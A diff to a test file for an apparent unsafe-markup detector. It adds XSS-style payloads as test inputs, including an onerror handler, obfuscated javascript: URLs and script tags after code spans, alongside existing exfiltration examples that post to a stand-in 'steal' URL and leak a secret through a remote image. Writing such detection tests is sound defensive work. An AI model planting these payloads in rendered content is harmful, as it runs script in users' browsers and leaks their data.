@@ -13,6 +13,14 @@ test('finds markup that runs or calls out where it would be shown', () => {
     ['<form action="https://a.b/steal">', ['form']],
     ['![](https://evil.test/p.png?said=secret)', ['remote-image']],
     ['<style>body{background:url(//a.b)}</style>', ['style']],
+    ['<img alt="a > b" src=x onerror=alert(1)>', ['handler']],
+    ['<a href="java\tscript:alert(1)">x</a>', ['script-url']],
+    ['<a href="&#106;avascript&colon;alert(1)">x</a>', ['script-url']],
+    ['<javascript:alert(1)>', ['script-url']],
+    ['[x]: javascript:alert(1)', ['script-url']],
+    // A span of three backticks is closed on its line: what follows is shown as it is.
+    ['```code``` <script>alert(1)</script>', ['script']],
+    ['```\ncode\n```\n<script>alert(1)</script>', ['script']],
   ];
   for (const [text, kinds] of cases) expect(unsafeMarkup(text), text).toEqual(kinds);
 });
@@ -25,6 +33,10 @@ test('leaves code, plain markup and talk about markup alone', () => {
     '![a cat](https://a.b/cat.png)',
     'A script tag runs JavaScript: beware of onclick handlers.',
     'if a < b and b > c, on = 3',
+    '[Basics](javascript-basics.html) and <a href="javascript-guide.html">more</a>',
+    'let data = "javascript";',
+    '````md\n```\n<script>alert(1)</script>\n```\n````\nThat is all.',
+    '```\n<script>alert(1)</script>',
     '',
   ]) {
     expect(unsafeMarkup(text), text).toEqual([]);
